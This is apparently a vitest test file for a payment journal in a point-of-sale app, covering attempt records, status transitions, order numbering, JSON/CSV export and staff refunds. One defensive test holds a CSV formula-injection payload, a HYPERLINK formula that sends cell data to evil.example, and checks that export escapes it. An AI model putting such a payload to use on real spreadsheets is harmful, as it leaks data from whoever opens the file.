import 'fake-indexeddb/auto';
import { IDBFactory } from 'fake-indexeddb';
import { afterEach, describe, expect, it } from 'vitest';
import type { ReceiptLine } from '../gateway/types.ts';
import { tiyin } from '../money/money.ts';
import { JournalError, openJournal, type AttemptDraft, type AttemptPatch, type Journal, type NewRefund } from './journal.ts';
import { TestClock } from '../testing/clock.ts';
import { teaLine } from '../testing/journal.ts';

/** The shared tea line, named with a comma and quotes so the round trip keeps awkward text. */
const line: ReceiptLine = { ...teaLine, name: 'Choy, "katta"' };

function draft(id: string, method: AttemptDraft['method'] = 'click', detail: string | null = '880101698207133392'): AttemptDraft {
  return { id, method, amount: tiyin(1_000_000), total: tiyin(1_000_000), lines: [line], detail, orderNumber: '7' };
}

const walletPaid = {
  method: 'wallet' as const,
  payment: { provider: 'click' as const, paymentId: '000123', transactionId: 'T1', phone: '998901234567', maskedCard: null, raw: '{}' },
};
const receipt = { qrUrl: 'https://ofd.soliq.uz/check?t=A&r=1&c=2&s=3', receiptCount: '1', fiscalSign: '3', terminalId: 'A', dateTime: '2' };

let journals: Journal[] = [];
async function fresh(now?: () => Date): Promise<{ journal: Journal; factory: IDBFactory }> {
  const factory = new IDBFactory();
  const journal = await openJournal({ indexedDB: factory, ...(now ? { now } : {}) });
  journals.push(journal);
  return { journal, factory };
}

afterEach(() => {
  for (const j of journals) j.close();
  journals = [];
});

describe('journal', () => {
  it('keeps a recorded attempt across a reopen (what a reload finds)', async () => {
    const { journal, factory } = await fresh(() => new Date(2025, 0, 5, 10, 30));
    const written = await journal.record(draft('a-1'));
    expect(written.status).toBe('recorded');
    expect(written.day).toBe('2025-01-05');
    expect(written.confirm).toBe('pending');
    journal.close();
    const reopened = await openJournal({ indexedDB: factory });
    journals.push(reopened);
    const read = await reopened.get('a-1');
    expect(read?.lines).toEqual([line]);
    expect(read?.detail).toBe('880101698207133392');
    expect(read?.history.map((h) => h.status)).toEqual(['recorded']);
  });

  it('refuses a second record with the same id (one attempt, one charge)', async () => {
    const { journal } = await fresh();
    await journal.record(draft('a-1'));
    await expect(journal.record(draft('a-1'))).rejects.toBeTruthy();
  });

  it('rejects a write once the database is gone, so no charge is sent', async () => {
    const { journal } = await fresh();
    journal.close();
    await expect(journal.record(draft('a-2'))).rejects.toBeTruthy();
  });

  it('applies events, keeps history and refuses illegal ones without changing the record', async () => {
    const { journal } = await fresh();
    await journal.record(draft('a-1'));
    await expect(journal.update('a-1', 'receipt.registered', { receipt })).rejects.toBeInstanceOf(JournalError);
    await expect(journal.update('a-1', 'charge.paid')).rejects.toBeInstanceOf(JournalError);
    expect((await journal.get('a-1'))?.status).toBe('recorded');
    await journal.update('a-1', 'charge.paid', { payment: walletPaid });
    await journal.update('a-1', 'receipt.failed', { error: { kind: 'unknown', reason: 'timeout', status: null, raw: '' } });
    const failed = await journal.get('a-1');
    expect(failed?.receiptError).toMatchObject({ kind: 'unknown', code: 'timeout' });
    await journal.update('a-1', 'receipt.registered', { receipt });
    const done = await journal.update('a-1', 'confirm.done');
    expect(done.status).toBe('done');
    expect(done.confirm).toBe('done');
    expect(done.receiptError).toBeNull();
    expect(done.payment).toEqual(walletPaid);
    expect(done.history.map((h) => h.event)).toEqual(['recorded', 'charge.paid', 'receipt.failed', 'receipt.registered', 'confirm.done']);
    await expect(journal.update('a-1', 'staff.resolved')).rejects.toBeInstanceOf(JournalError);
    await expect(journal.update('nope', 'charge.paid')).rejects.toBeInstanceOf(JournalError);
  });

  it('lists by day and status and finds the work left to do', async () => {
    const clock = new TestClock(new Date(2025, 0, 5, 9));
    const { journal } = await fresh(clock.date);
    await journal.record(draft('a-1'));
    await journal.update('a-1', 'charge.paid', { payment: walletPaid });
    clock.set(new Date(2025, 0, 5, 10));
    await journal.record(draft('a-2', 'humo', null));
    await journal.update('a-2', 'charge.declined', { error: { kind: 'rejected', code: '108', message: 'x', fieldErrors: null, providerCode: '116', raw: '' } });
    clock.set(new Date(2025, 0, 6, 8));
    await journal.record(draft('a-3', 'uzum'));
    await journal.update('a-3', 'charge.paid', { payment: walletPaid });
    await journal.update('a-3', 'receipt.registered', { receipt });

    expect((await journal.list({ day: '2025-01-05' })).map((a) => a.id)).toEqual(['a-1', 'a-2']);
    expect((await journal.list({ status: 'declined' })).map((a) => a.id)).toEqual(['a-2']);
    expect((await journal.list({ day: '2025-01-06', status: 'paid' })).map((a) => a.id)).toEqual([]);
    expect((await journal.needingWork()).map((a) => a.id)).toEqual(['a-1', 'a-3']);
  });

  it('numbers orders per day from 1 and wraps after 999', async () => {
    const { journal } = await fresh();
    expect(await journal.nextOrderNumber('2025-01-05')).toBe('1');
    expect(await journal.nextOrderNumber('2025-01-05')).toBe('2');
    expect(await journal.nextOrderNumber('2025-01-06')).toBe('1');
    for (let i = 3; i <= 999; i++) await journal.nextOrderNumber('2025-01-05');
    expect(await journal.nextOrderNumber('2025-01-05')).toBe('1');
  });

  it('exports a day as JSON and as CSV with quoted fields', async () => {
    const { journal } = await fresh(() => new Date(2025, 0, 5, 9));
    await journal.record(draft('a-1', 'uzum', '7993:5061401:01KFDH,x:3sy"Ig+hh='));
    const { json, csv } = await journal.exportDay('2025-01-05');
    expect(JSON.parse(json)).toHaveLength(1);
    const [header, row, ...rest] = csv.split('\r\n');
    expect(header?.startsWith('"id","createdAt"')).toBe(true);
    expect(row).toContain('"7993:5061401:01KFDH,x:3sy""Ig+hh="');
    expect(row).toContain('"1000000"');
    expect(rest).toEqual(['']);
    expect((await journal.exportDay('2025-01-04')).csv.split('\r\n')).toHaveLength(2);
  });

  it('neutralises CSV cells that a spreadsheet would run as a formula; the JSON keeps the code as scanned', async () => {
    const { journal } = await fresh(() => new Date(2025, 0, 5, 9));
    const formula = '=HYPERLINK("http://evil.example/?"&K2&L2,"Open")';
    await journal.record(draft('a-1', 'click', formula));
    await journal.record(draft('a-2', 'click', '+998901234567'));
    await journal.record(draft('a-3', 'click', '@SUM(A1)'));
    await journal.record(draft('a-4', 'click', '-2+3'));
    await journal.record(draft('a-5', 'click', '\t=1+1'));
    await journal.record(draft('a-6', 'click', '\r=1+1'));
    const { json, csv } = await journal.exportDay('2025-01-05');
    expect((JSON.parse(json) as { detail: string }[]).map((a) => a.detail)).toEqual([
      formula,
      '+998901234567',
      '@SUM(A1)',
      '-2+3',
      '\t=1+1',
      '\r=1+1',
    ]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&K2&L2,""Open"")"`);
    for (const cell of [`"'+998901234567"`, `"'@SUM(A1)"`, `"'-2+3"`, `"'\t=1+1"`, `"'\r=1+1"`]) expect(csv).toContain(cell);
    // No cell of the file starts with a formula character.
    expect(csv).not.toMatch(/(^|,)"[=+\-@\t\r]/m);
  });
});

describe('journal: staff refunds through the transition table', () => {
  const refund: NewRefund = {
    kind: 'cancel',
    at: '2025-05-18T17:19:00.000Z',
    slip: 'ОТМЕНА',
    rrn: '416311639412',
    amount: tiyin(1_000_000),
    by: 'badge',
    receipt: { state: 'pending', uuid: 'refund-1' },
  };
  const humoPaid = { method: 'pinpad' as const, result: { provider: 'humo' as const, slip: 'ОДОБРЕНО', rrn: '010965270742', raw: '{}' } };

  async function paidCard(journal: Journal, id: string): Promise<void> {
    await journal.record(draft(id, 'humo', null));
    await journal.update(id, 'charge.paid', { payment: humoPaid });
  }

  it('records a refund once with staff.refunded, keeping the status; a second one and another amount are refused', async () => {
    const { journal } = await fresh();
    await paidCard(journal, 'h-1');
    await journal.update('h-1', 'receipt.registered', { receipt });
    await journal.update('h-1', 'confirm.skipped');
    const refunded = await journal.update('h-1', 'staff.refunded', { refund, note: 'staff cancel' });
    expect(refunded.status).toBe('done');
    expect(refunded.refund).toEqual(refund);
    expect(refunded.payment).toEqual(humoPaid);
    expect(refunded.history.at(-1)).toMatchObject({ event: 'staff.refunded', status: 'done', note: 'staff cancel' });
    await expect(journal.update('h-1', 'staff.refunded', { refund })).rejects.toBeInstanceOf(JournalError);
    await paidCard(journal, 'h-2');
    await expect(journal.update('h-2', 'staff.refunded', { refund: { ...refund, amount: tiyin(1) } })).rejects.toBeInstanceOf(JournalError);
    expect((await journal.get('h-2'))?.refund).toBeNull();
  });

  it('refuses a refund of money that was never taken', async () => {
    const { journal } = await fresh();
    await journal.record(draft('r-1', 'humo', null));
    await expect(journal.update('r-1', 'staff.refunded', { refund })).rejects.toBeInstanceOf(JournalError);
    await journal.update('r-1', 'charge.declined', {});
    await expect(journal.update('r-1', 'staff.refunded', { refund })).rejects.toBeInstanceOf(JournalError);
    expect((await journal.get('r-1'))?.refund).toBeNull();
  });

  it('changes only the refund receipt with refund.receipt, and needs a refund to change', async () => {
    const { journal } = await fresh();
    await paidCard(journal, 'h-1');
    await expect(journal.update('h-1', 'refund.receipt', { receipt: { state: 'refused', uuid: 'x' } })).rejects.toBeInstanceOf(JournalError);
    await journal.update('h-1', 'staff.refunded', { refund });
    await journal.update('h-1', 'staff.resolved', { resolution: { reason: 'cancel 416311639412' } });
    const registered = { state: 'registered' as const, uuid: 'refund-1', qrUrl: 'https://ofd.soliq.uz/check?r=9', receiptCount: '9' };
    const written = await journal.update('h-1', 'refund.receipt', { receipt: registered, note: 'refund receipt registered' });
    expect(written.status).toBe('resolved');
    expect(written.refund).toEqual({ ...refund, receipt: registered });
  });

  it('reads from a patch only the fields its event may set: a note patches nothing but the history', async () => {
    const { journal } = await fresh();
    await paidCard(journal, 'h-1');
    // As an untyped outcome read back from storage could carry: the refund, a payment and a receipt ride along.
    const stray = { note: 'just a note', refund, payment: walletPaid, receipt } as unknown as AttemptPatch<'note'>;
    const written = await journal.update('h-1', 'note', stray);
    expect(written.refund).toBeNull();
    expect(written.payment).toEqual(humoPaid);
    expect(written.receipt).toBeNull();
    expect(written.history.at(-1)).toEqual({ at: written.updatedAt, status: 'paid', event: 'note', note: 'just a note' });
  });
});
